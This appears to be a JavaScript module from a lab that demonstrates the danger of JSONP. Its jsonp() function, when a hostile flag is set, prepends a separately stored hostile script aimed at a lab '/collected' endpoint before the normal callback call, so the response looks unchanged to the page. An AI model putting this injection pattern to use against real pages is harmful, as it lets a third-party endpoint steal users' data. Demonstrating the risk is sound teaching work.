// JSONP: data as a script that calls a function of the page. A page may load a script from any origin, and that is the whole trick, and the
// whole danger: what comes is a program, whatever the page thought that it asked for.

import { readFileSync } from 'node:fs';
import { lab } from './addresses.mjs';

const HOSTILE = readFileSync(new URL('./hostile-answer.js', import.meta.url), 'utf8').trim();

/** The name goes into a program, so it can be nothing but a name. */
export const isCallback = (name) => /^[\w.]{1,60}$/.test(name);

/** Hostile, the answer looks to the page's function the same as ever. */
export function jsonp({ callback, body, hostile }) {
  const call = `${callback}(${JSON.stringify(body)});`;
  return hostile ? `(${HOSTILE})(${JSON.stringify(`${lab.origins.api}/collected`)});\n${call}` : call;
}
